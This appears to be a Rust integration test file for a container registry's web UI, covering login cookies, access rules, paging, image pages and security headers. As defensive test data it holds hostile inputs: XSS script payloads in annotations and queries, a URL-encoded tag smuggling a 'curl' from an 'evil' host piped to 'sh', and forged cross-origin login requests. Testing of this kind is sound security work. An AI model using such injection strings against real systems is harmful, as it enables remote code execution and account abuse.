//! The web page at `/ui/` in the composed registry over real TCP, with the auth layer's rules:
//! what anonymous callers and a signed-in user see, the login and its cookie, paging and the
//! filter, the image page (platforms, layers, labels, referrers, escaped annotations), tags by
//! push time, the security headers and the page's weight. The same page in a real browser is
//! `tests/e2e/browse.rs`.

use base64::Engine as _;
use bytes::Bytes;
use donjon::BrowseLayer;
use donjon_auth::config::{HtpasswdConfig, OneOrMany, RuleConfig};
use donjon_auth::AuthConfig;
use donjon_test_support::server::*;

fn rule(repository: &str, who: &[&str], actions: &[&str]) -> RuleConfig {
    RuleConfig {
        repository: repository.into(),
        who: OneOrMany::Many(who.iter().map(|w| w.to_string()).collect()),
        actions: actions.iter().map(|a| a.to_string()).collect(),
    }
}

const ALICE: &str = "Basic YWxpY2U6YWxpY2UtcHc="; // alice:alice-pw

/// alice may do anything; anyone may pull `public/**`; the rest is for signed-in users.
async fn setup(ui: BrowseLayer) -> (TestServer, tempfile::TempDir) {
    assert_eq!(
        ALICE,
        format!("Basic {}", base64::engine::general_purpose::STANDARD.encode("alice:alice-pw"))
    );
    let dir = tempfile::tempdir().unwrap();
    let htpasswd = dir.path().join("htpasswd");
    std::fs::write(&htpasswd, format!("alice:{}\n", bcrypt::hash("alice-pw", 4).unwrap())).unwrap();
    let config = AuthConfig {
        htpasswd: Some(HtpasswdConfig { realm: None, path: htpasswd }),
        access: vec![
            rule("**", &["user:alice"], &["pull", "push", "delete"]),
            rule("public/**", &["anyone"], &["pull"]),
            rule("**", &["authenticated"], &["pull"]),
        ],
        ..Default::default()
    };
    let keys = donjon::core::memory::MemoryStore::default();
    let auth = config.build(&keys, None).await.unwrap().unwrap();
    let server = TestServer::start_with(move |b| b.auth(auth.clone()).browse(ui.clone())).await;
    (server, dir)
}

async fn put(s: &TestServer, method: &str, path: &str, headers: &[(&str, &str)], body: &[u8]) -> Resp {
    s.req_as(ALICE, method, path, headers, Bytes::copy_from_slice(body)).await
}

async fn blob(s: &TestServer, repo: &str, data: &[u8]) -> String {
    let d = digest(data);
    let r = put(s, "POST", &format!("/v2/{repo}/blobs/uploads/?digest={d}"), &[], data).await;
    assert_eq!(r.status, 201, "{:?}", r.body);
    d
}

async fn manifest(s: &TestServer, repo: &str, reference: &str, media_type: &str, body: &[u8]) -> String {
    let r =
        put(s, "PUT", &format!("/v2/{repo}/manifests/{reference}"), &[("content-type", media_type)], body)
            .await;
    assert_eq!(r.status, 201, "{:?}", r.body);
    digest(body)
}

/// An image whose config has labels and whose manifest has `annotations`.
async fn image(
    s: &TestServer,
    repo: &str,
    tag: &str,
    arch: &str,
    annotations: serde_json::Value,
) -> (String, usize) {
    let config = serde_json::to_vec(&serde_json::json!({
        "architecture": arch, "os": "linux", "created": "2026-11-30T10:00:00Z",
        "config": {"Labels": {"org.opencontainers.image.source": "https://example.com/src", "tier": "<b>gold</b>"}},
        "rootfs": {"type": "layers", "diff_ids": []},
    }))
    .unwrap();
    let layer = vec![7u8; 3 * 1024 * 1024 + 11];
    let cd = blob(s, repo, &config).await;
    let ld = blob(s, repo, &layer).await;
    let m = serde_json::to_vec(&serde_json::json!({
        "schemaVersion": 2, "mediaType": OCI_MANIFEST,
        "config": {"mediaType": "application/vnd.oci.image.config.v1+json", "digest": cd, "size": config.len()},
        "layers": [{"mediaType": "application/vnd.oci.image.layer.v1.tar+gzip", "digest": ld, "size": layer.len()}],
        "annotations": annotations,
    }))
    .unwrap();
    (manifest(s, repo, tag, OCI_MANIFEST, &m).await, m.len())
}

fn text(r: &Resp) -> String {
    String::from_utf8_lossy(&r.body).into_owned()
}

async fn page(s: &TestServer, path: &str, cookie: Option<&str>) -> Resp {
    let h: Vec<(&str, &str)> = cookie.map(|c| vec![("cookie", c)]).unwrap_or_default();
    s.req("GET", path, &h, Bytes::new()).await
}

/// Signs in by the form; the session cookie (`donjon_ui=…`).
async fn sign_in(s: &TestServer, user: &str, password: &str) -> Resp {
    let form = format!("username={user}&password={password}&next=%2Fui%2Fr%2Fteam%2Fapp");
    s.req("POST", "/ui/login", &[("content-type", "application/x-www-form-urlencoded")], form).await
}

#[tokio::test]
async fn anonymous_callers_see_what_they_may_pull_and_a_login_reveals_the_rest() {
    let (s, _d) = setup(BrowseLayer::new()).await;
    image(&s, "public/busybox", "1.36", "amd64", serde_json::json!({})).await;
    image(&s, "team/app", "v1", "amd64", serde_json::json!({})).await;

    let r = page(&s, "/ui/", None).await;
    assert_eq!(r.status, 200);
    let html = text(&r);
    assert!(html.contains("href=\"/ui/r/public/busybox\""), "{html}");
    assert!(!html.contains("team/app"), "a private repository is listed to anyone: {html}");
    assert!(html.contains("href=\"/ui/login\""), "no sign-in link: {html}");

    // A private repository: the login form, which comes back here.
    let r = page(&s, "/ui/r/team/app", None).await;
    assert_eq!(r.status, 401);
    assert!(
        text(&r).contains("name=\"password\"") && text(&r).contains("value=\"/ui/r/team/app\""),
        "{}",
        text(&r)
    );

    let bad = sign_in(&s, "alice", "wrong").await;
    assert_eq!(bad.status, 401);
    assert!(text(&bad).contains("Wrong user name or password"), "{}", text(&bad));
    assert!(bad.headers.get("set-cookie").is_none());

    let ok = sign_in(&s, "alice", "alice-pw").await;
    assert_eq!(ok.status, 303, "{}", text(&ok));
    assert_eq!(ok.header("location"), "/ui/r/team/app");
    let set = ok.header("set-cookie").to_string();
    assert!(
        set.contains("HttpOnly") && set.contains("SameSite=Strict") && set.contains("Path=/ui/"),
        "{set}"
    );
    assert!(!set.contains("alice-pw"));
    let cookie = set.split(';').next().unwrap().to_string();

    let html = text(&page(&s, "/ui/", Some(&cookie)).await);
    assert!(html.contains("team/app") && html.contains("public/busybox"), "{html}");
    assert!(html.contains("Sign out"));
    let r = page(&s, "/ui/r/team/app", Some(&cookie)).await;
    assert_eq!(r.status, 200);
    assert!(text(&r).contains("href=\"/ui/r/team/app:v1\""), "{}", text(&r));

    // A forged cookie is not a session: it is cleared, and the login asked for again.
    let r = page(&s, "/ui/r/team/app", Some("donjon_ui=forged")).await;
    assert_eq!(r.status, 401);
    assert!(r.header("set-cookie").contains("Max-Age=0"));

    // Sign out clears the cookie; a form of another site may not sign anyone in or out.
    let elsewhere = [("cookie", cookie.as_str()), ("origin", "https://evil.example")];
    assert_eq!(s.req("POST", "/ui/logout", &elsewhere, Bytes::new()).await.status, 403);
    let out = s.req("POST", "/ui/logout", &[("cookie", &cookie)], Bytes::new()).await;
    assert_eq!(out.status, 303);
    assert!(out.header("set-cookie").contains("Max-Age=0"));
    let forged = s
        .req(
            "POST",
            "/ui/login",
            &[("content-type", "application/x-www-form-urlencoded"), ("origin", "https://evil.example")],
            "username=alice&password=alice-pw",
        )
        .await;
    assert_eq!(forged.status, 403);
    // No page offers a delete, and nothing under /ui/ deletes.
    assert!(!html.to_lowercase().contains("delete"));
    assert_eq!(s.req("DELETE", "/ui/r/team/app:v1", &[("cookie", &cookie)], Bytes::new()).await.status, 405);
}

#[tokio::test]
async fn the_catalog_pages_and_the_filter_narrows() {
    let (s, _d) = setup(BrowseLayer::new().page_size(2).filter_budget(3)).await;
    for r in ["public/a-one", "public/b-two", "public/c-one", "public/d-two", "public/e-one"] {
        image(&s, r, "latest", "amd64", serde_json::json!({})).await;
    }
    let html = text(&page(&s, "/ui/", None).await);
    assert!(
        html.contains("public/a-one") && html.contains("public/b-two") && !html.contains("public/c-one"),
        "{html}"
    );
    assert!(html.contains("href=\"/ui/?last=public/b-two\""), "{html}");
    let html = text(&page(&s, "/ui/?last=public/b-two", None).await);
    assert!(
        html.contains("public/c-one") && html.contains("public/d-two") && !html.contains("public/b-two"),
        "{html}"
    );
    let html = text(&page(&s, "/ui/?last=public/d-two", None).await);
    assert!(html.contains("public/e-one") && !html.contains("rel=\"next\""), "{html}");

    // "one": a-one, c-one in the first three names looked at fill the page.
    let html = text(&page(&s, "/ui/?q=one", None).await);
    assert!(
        html.contains("public/a-one") && html.contains("public/c-one") && !html.contains("two"),
        "{html}"
    );
    assert!(html.contains("href=\"/ui/?last=public/c-one&amp;q=one\""), "{html}");
    assert!(html.contains(">Next page<"), "{html}");
    let html = text(&page(&s, "/ui/?q=one&last=public/c-one", None).await);
    assert!(html.contains("public/e-one") && !html.contains("a-one"), "{html}");
    // "two": one match in the three names the budget allows; the rest is further on.
    let html = text(&page(&s, "/ui/?q=two", None).await);
    assert!(html.contains("public/b-two") && !html.contains("public/d-two"), "{html}");
    assert!(html.contains("href=\"/ui/?last=public/c-one&amp;q=two\">Keep looking<"), "{html}");
    let html = text(&page(&s, "/ui/?q=two&last=public/c-one", None).await);
    assert!(html.contains("public/d-two") && !html.contains("b-two"), "{html}");
    let html = text(&page(&s, "/ui/?q=%3Cscript%3E", None).await);
    assert!(html.contains("value=\"&lt;script&gt;\"") && !html.contains("<script>"), "{html}");
}

#[tokio::test]
async fn an_image_page_shows_platforms_layers_labels_and_referrers_as_text() {
    let (s, _d) = setup(BrowseLayer::new().public_host("registry.example")).await;
    let repo = "public/tool";
    let hostile = serde_json::json!({"org.opencontainers.image.description": "<script>alert(1)</script>", "<i>k</i>": "v"});
    let (amd, amd_size) = image(&s, repo, "amd64", "amd64", hostile).await;
    let (arm, arm_size) = image(&s, repo, "arm64", "arm64", serde_json::json!({})).await;
    let index = serde_json::to_vec(&serde_json::json!({
        "schemaVersion": 2, "mediaType": OCI_INDEX,
        "manifests": [
            {"mediaType": OCI_MANIFEST, "digest": amd, "size": amd_size, "platform": {"os": "linux", "architecture": "amd64"}},
            {"mediaType": OCI_MANIFEST, "digest": arm, "size": arm_size, "platform": {"os": "linux", "architecture": "arm64", "variant": "v8"}},
        ],
    }))
    .unwrap();
    let index_digest = manifest(&s, repo, "1.0", OCI_INDEX, &index).await;
    // A signature of the amd64 image: an artifact manifest with a subject.
    let empty = blob(&s, repo, b"{}").await;
    let sig = blob(&s, repo, b"signature").await;
    let referrer = serde_json::to_vec(&serde_json::json!({
        "schemaVersion": 2, "mediaType": OCI_MANIFEST, "artifactType": "application/vnd.dev.cosign.artifact.sig.v1+json",
        "config": {"mediaType": "application/vnd.oci.empty.v1+json", "digest": empty, "size": 2},
        "layers": [{"mediaType": "application/vnd.dev.cosign.simplesigning.v1+json", "digest": sig, "size": 9}],
        "subject": {"mediaType": OCI_MANIFEST, "digest": amd, "size": amd_size},
        "annotations": {"org.opencontainers.image.created": "2026-12-01T00:00:00Z"},
    }))
    .unwrap();
    let sig_digest = manifest(&s, repo, &digest(&referrer), OCI_MANIFEST, &referrer).await;

    let html = text(&page(&s, "/ui/r/public/tool:1.0", None).await);
    assert!(html.contains(&index_digest) && html.contains(OCI_INDEX), "{html}");
    assert!(html.contains("linux/amd64") && html.contains("linux/arm64/v8"), "{html}");
    assert!(html.contains(&format!("href=\"/ui/r/public/tool@{amd}\"")), "{html}");
    assert!(html.contains("data-copy=\"docker pull registry.example/public/tool:1.0\""), "{html}");
    assert!(html.contains("podman pull --tls-verify=false registry.example/public/tool:1.0"), "{html}");
    assert!(html.contains("ctr images pull --plain-http registry.example/public/tool:1.0"));
    assert!(html.contains("insecure-registries"), "docker's daemon setting for a plain-HTTP host: {html}");
    // The repository's page: a command with a tag that exists (no `latest` here).
    let html = text(&page(&s, "/ui/r/public/tool", None).await);
    assert!(html.contains("data-copy=\"docker pull registry.example/public/tool:1.0\""), "{html}");
    assert!(!html.contains("docker pull registry.example/public/tool<"), "{html}");

    let r = page(&s, &format!("/ui/r/public/tool@{amd}"), None).await;
    assert_eq!(r.status, 200);
    let html = text(&r);
    assert!(
        html.contains("3.0 MiB") && html.contains("application/vnd.oci.image.layer.v1.tar+gzip"),
        "{html}"
    );
    assert!(html.contains("2026-11-30T10:00:00Z") && html.contains("linux/amd64"), "{html}");
    assert!(
        html.contains("org.opencontainers.image.source") && html.contains("&lt;b&gt;gold&lt;/b&gt;"),
        "{html}"
    );
    assert!(
        html.contains("&lt;script&gt;alert(1)&lt;/script&gt;") && !html.contains("<script>alert"),
        "{html}"
    );
    assert!(html.contains("&lt;i&gt;k&lt;/i&gt;"));
    assert!(html.contains("application/vnd.dev.cosign.artifact.sig.v1+json"), "no referrer: {html}");
    assert!(html.contains(&format!("href=\"/ui/r/public/tool@{sig_digest}\"")), "{html}");
    // The referrer's own page links back to what it signs.
    let html = text(&page(&s, &format!("/ui/r/public/tool@{sig_digest}"), None).await);
    assert!(html.contains("Refers to") && html.contains(&format!("@{amd}")), "{html}");

    assert_eq!(page(&s, "/ui/r/public/tool:nope", None).await.status, 404);
    // Only a tag or a digest the grammar accepts: nothing else reaches a pull command.
    let planted = page(&s, "/ui/r/public/tool:1.0%3Fx=%60curl%24%7BIFS%7Devil%7Csh%60", None).await;
    assert_eq!(planted.status, 404);
    assert!(!text(&planted).contains("docker pull"), "{}", text(&planted));
    assert_eq!(page(&s, "/ui/r/public/tool@sha256:zz", None).await.status, 404);
    assert!(!html.to_lowercase().contains("delete"));
    assert_eq!(page(&s, "/ui/r/public/none", None).await.status, 404);
    assert_eq!(page(&s, "/ui/r/Not..A..Name", None).await.status, 404);
}

#[tokio::test]
async fn tags_sort_by_name_or_by_push_time() {
    let (s, _d) = setup(BrowseLayer::new()).await;
    for tag in ["b", "c", "a"] {
        image(&s, "public/t", tag, "amd64", serde_json::json!({})).await;
        // Link files' times differ by more than a coarse filesystem's resolution.
        tokio::time::sleep(std::time::Duration::from_millis(20)).await;
    }
    let order = |html: &str| {
        let mut at: Vec<(usize, &str)> =
            ["a", "b", "c"].iter().map(|t| (html.find(&format!(">{t}</a>")).unwrap(), *t)).collect();
        at.sort();
        at.into_iter().map(|(_, t)| t).collect::<String>()
    };
    let by_name = text(&page(&s, "/ui/r/public/t", None).await);
    assert_eq!(order(&by_name), "abc", "{by_name}");
    let by_time = text(&page(&s, "/ui/r/public/t?sort=time", None).await);
    assert_eq!(order(&by_time), "acb", "newest first: {by_time}");
    assert!(by_time.contains("<time datetime="), "{by_time}");
}

#[tokio::test]
async fn the_page_is_strict_and_weighs_little() {
    let (s, _d) = setup(BrowseLayer::new()).await;
    let (d, size) = image(&s, "public/r000", "latest", "amd64", serde_json::json!({})).await;
    // 99 more repositories sharing that manifest's blobs: a full first page.
    let m = s.req("GET", &format!("/v2/public/r000/manifests/{d}"), &[], Bytes::new()).await.body;
    assert_eq!(m.len(), size);
    for i in 1..100 {
        let repo = format!("public/r{i:03}-with-a-longer-name-as-real-ones-have");
        let cfg = serde_json::from_slice::<serde_json::Value>(&m).unwrap();
        for b in [&cfg["config"]["digest"], &cfg["layers"][0]["digest"]] {
            let b = b.as_str().unwrap();
            let r =
                put(&s, "POST", &format!("/v2/{repo}/blobs/uploads/?mount={b}&from=public/r000"), &[], b"")
                    .await;
            assert_eq!(r.status, 201);
        }
        manifest(&s, &repo, "latest", OCI_MANIFEST, &m).await;
    }
    let r = page(&s, "/ui/", None).await;
    let csp = r.header("content-security-policy");
    assert!(
        csp.contains("default-src 'none'") && csp.contains("script-src 'self'") && !csp.contains("unsafe"),
        "{csp}"
    );
    assert!(csp.contains("frame-ancestors 'none'"));
    assert_eq!(r.header("x-content-type-options"), "nosniff");
    assert_eq!(r.header("cache-control"), "no-store");
    let html = text(&r);
    assert_eq!(html.matches("<li><a href=\"/ui/r/").count(), 100);
    assert!(
        !html.contains("<script>") && !html.contains(" style=") && !html.contains(" onclick"),
        "inline script or style"
    );
    let css = page(&s, "/ui/assets/ui.css", None).await;
    let js = page(&s, "/ui/assets/ui.js", None).await;
    assert!(
        css.header("content-type").starts_with("text/css")
            && js.header("content-type").starts_with("text/javascript")
    );
    let weight = r.body.len() + css.body.len() + js.body.len();
    assert!(weight < 100 * 1024, "the catalog page weighs {weight} bytes with its assets");
    println!("catalog page of 100 repositories: {} bytes, with its assets {weight} bytes", r.body.len());

    // Outside /ui/ nothing changes; /ui is sent to /ui/.
    assert_eq!(s.get("/v2/").await.status, 401);
    assert_eq!(page(&s, "/ui", None).await.header("location"), "/ui/");
    let head = s.req("HEAD", "/ui/", &[], Bytes::new()).await;
    assert_eq!(head.status, 200);
    assert!(head.body.is_empty());
}

#[tokio::test]
async fn without_the_layer_there_is_no_page() {
    let s = TestServer::start().await;
    assert_eq!(s.get("/ui/").await.status, 404);
}

/// The binary serves the page by default; `ui: {enabled: false}` (or its `REGISTRY_UI_ENABLED`)
/// turns it off and leaves the API alone.
#[tokio::test]
async fn the_binary_serves_the_page_unless_the_configuration_turns_it_off() {
    let dir = tempfile::tempdir().unwrap();
    let data = dir.path().join("data");
    let data = data.to_str().unwrap();
    let (_on, addr) = donjon_test_support::spawn_donjon!(&["--data-dir", data]);
    let c = client();
    let r = send(&c, "GET", &format!("http://{addr}/ui/"), &[], Bytes::new()).await;
    assert_eq!(r.status, 200);
    assert!(r.header("content-type").starts_with("text/html"));

    let file = dir.path().join("config.yml");
    std::fs::write(&file, "ui:\n  enabled: false\n").unwrap();
    let (_off, addr) =
        donjon_test_support::spawn_donjon!(&["--data-dir", data, "--config-file", file.to_str().unwrap()]);
    assert_eq!(send(&c, "GET", &format!("http://{addr}/ui/"), &[], Bytes::new()).await.status, 404);
    assert_eq!(send(&c, "GET", &format!("http://{addr}/v2/"), &[], Bytes::new()).await.status, 200);
}

/// The registry lists only what the caller may pull: a catalog page of names it may not see
/// comes back empty, with a `Link` to the rest, and the page follows it.
#[tokio::test]
async fn the_catalog_reaches_past_what_the_caller_may_not_see() {
    let (s, _d) = setup(BrowseLayer::new().page_size(2)).await;
    for r in ["a-team/one", "a-team/three", "a-team/two", "public/x", "public/y", "public/z"] {
        image(&s, r, "latest", "amd64", serde_json::json!({})).await;
    }
    let html = text(&page(&s, "/ui/", None).await);
    assert!(html.contains("public/x") && html.contains("public/y") && !html.contains("a-team"), "{html}");
    assert!(html.contains("href=\"/ui/?last=public/y\""), "{html}");
    let html = text(&page(&s, "/ui/?last=public/y", None).await);
    assert!(html.contains("public/z") && !html.contains("rel=\"next\""), "{html}");
}

/// Browsers speak HTTP/2 over TLS, with no `Host` header: the login's same-origin check and
/// the pull commands take the request's authority.
#[tokio::test]
async fn over_http2_the_authority_is_the_host() {
    let (s, _d) = setup(BrowseLayer::new()).await;
    image(&s, "public/h2", "v1", "amd64", serde_json::json!({})).await;
    let h2: hyper_util::client::legacy::Client<_, http_body_util::Full<Bytes>> =
        hyper_util::client::legacy::Client::builder(hyper_util::rt::TokioExecutor::new())
            .http2_only(true)
            .build_http();
    let origin = format!("http://{}", s.addr);
    let req = http::Request::post(s.url("/ui/login"))
        .header("origin", &origin)
        .header("content-type", "application/x-www-form-urlencoded")
        .body(http_body_util::Full::new(Bytes::from("username=alice&password=alice-pw")))
        .unwrap();
    let resp = h2.request(req).await.unwrap();
    assert_eq!(resp.version(), http::Version::HTTP_2);
    assert_eq!(resp.status(), 303, "a same-origin login over HTTP/2");
    let req = http::Request::get(s.url("/ui/r/public/h2:v1"))
        .body(http_body_util::Full::new(Bytes::new()))
        .unwrap();
    let resp = h2.request(req).await.unwrap();
    let body = http_body_util::BodyExt::collect(resp.into_body()).await.unwrap().to_bytes();
    let html = String::from_utf8_lossy(&body);
    assert!(html.contains(&format!("docker pull {}/public/h2:v1", s.addr)), "{html}");
    assert!(!html.contains("insecure-registries"), "docker pulls from a loopback host as it is: {html}");
}
